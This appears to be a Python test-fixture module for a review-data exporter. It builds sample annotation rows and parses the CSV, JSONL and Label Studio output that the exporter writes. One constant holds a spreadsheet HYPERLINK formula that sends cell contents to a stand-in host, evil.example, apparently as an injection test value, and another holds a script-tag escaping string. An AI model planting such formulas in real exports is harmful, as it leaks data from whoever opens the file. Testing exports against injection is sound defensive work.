"""Rows as the exporter hands them to the writers, and readers of what the writers wrote."""

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

from review.export_formats import FORMATS, render

STARTED_AT = datetime(2025, 3, 4, 9, 15, 0, tzinfo=UTC)
SUBMITTED_AT = STARTED_AT + timedelta(seconds=42.5)
REVIEWED_AT = STARTED_AT + timedelta(hours=2)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE = ('<script>alert("x")</script> & "quoted", \'single\'\nnew line\r\nCRLF, comma;'
           ' 日本語 Ünïcödé 👩‍⚕️ \\ back\\slash\ttab')
FORMAT_NAMES = sorted(FORMATS)
# The columns every export writes, in the order CSV writes them: written out here, not read
# from the writer, so that a change to what leaves the system fails a test.
EXPORTED_COLUMNS = [
    "kind", "task_id", "task_name", "batch_number", "item_id", "external_id", "source",
    "modality", "text", "media", "rule_set", "rule_version", "annotator", "label",
    "review_outcome", "started_at", "submitted_at", "reviewed_at",
]
SPEC = [
    {"name": "ranking", "type": "ranking", "label": "Rank", "options": ["A", "B", "C"]},
    {"name": "quality", "type": "rating", "label": "Quality", "min": 1, "max": 5},
    {"name": "topic", "type": "single_choice", "label": "Topic", "options": ["Law", "Health"]},
    {"name": "issues", "type": "multiple_choice", "label": "Issues",
     "options": ["Off topic", "Rude"]},
    {"name": "reason", "type": "free_text", "label": "Reason"},
]


def functional_row(**overrides) -> dict:
    row = {
        "kind": "functional", "task_id": 7, "task_name": "Answer ranking", "batch_number": 3,
        "item_id": 1001, "external_id": "ext-1001", "source": "forum-dump-2025",
        "modality": "text", "text": "Which answer is best?", "media": "",
        "rule_set": "Ranking rules", "rule_version": 2, "annotator": "ann-5f2c",
        "label": {"ranking": ["B", "A", "C"], "quality": 4, "topic": "Law",
                  "issues": ["Off topic"], "reason": "B cites the statute."},
        "review_outcome": "accepted", "started_at": STARTED_AT, "submitted_at": SUBMITTED_AT,
        "reviewed_at": REVIEWED_AT,
    }
    return {**row, **overrides}


def safety_row(**overrides) -> dict:
    row = {
        **functional_row(), "kind": "safety", "task_name": "Harm screen", "batch_number": None,
        "text": "Mix bleach and ammonia to clean.", "rule_set": "Risk taxonomy",
        "label": {"risk_codes": ["A.2.b"], "no_risk": False,
                  "spans": [{"start": 0, "end": 22, "code": "A.2.b"}, {"start": 23, "end": 31}],
                  "note": "Toxic gas."},
        "review_outcome": "approved by 2",
    }
    return {**row, **overrides}


def output(rows, fmt: str) -> str:
    return b"".join(render(rows, fmt)).decode("utf-8")


def jsonl_records(rows) -> list[dict]:
    lines = output(rows, "jsonl").split("\n")
    assert lines[-1] == ""
    return [json.loads(line) for line in lines[:-1]]


def csv_cells(rows) -> list[list[str]]:
    return list(csv.reader(io.StringIO(output(rows, "csv"), newline="")))


def csv_records(rows) -> list[dict[str, str]]:
    header, *records = csv_cells(rows)
    return [dict(zip(header, record, strict=True)) for record in records]


def labelstudio_tasks(rows) -> list[dict]:
    return json.loads(output(rows, "labelstudio"))


def numbered_rows(count: int, *, fail_after: int | None = None) -> Iterator[dict]:
    for number in range(count):
        if fail_after is not None and number == fail_after:
            raise RuntimeError("the database went away")
        yield functional_row(item_id=number, text=f"Item {number}: " + "lorem ipsum " * 20)


class CountingRows:
    """An iterator of rows that counts how many have been read."""

    def __init__(self, count: int) -> None:
        self.read = 0
        self._rows = numbered_rows(count)

    def __iter__(self) -> "CountingRows":
        return self

    def __next__(self) -> dict:
        row = next(self._rows)
        self.read += 1
        return row
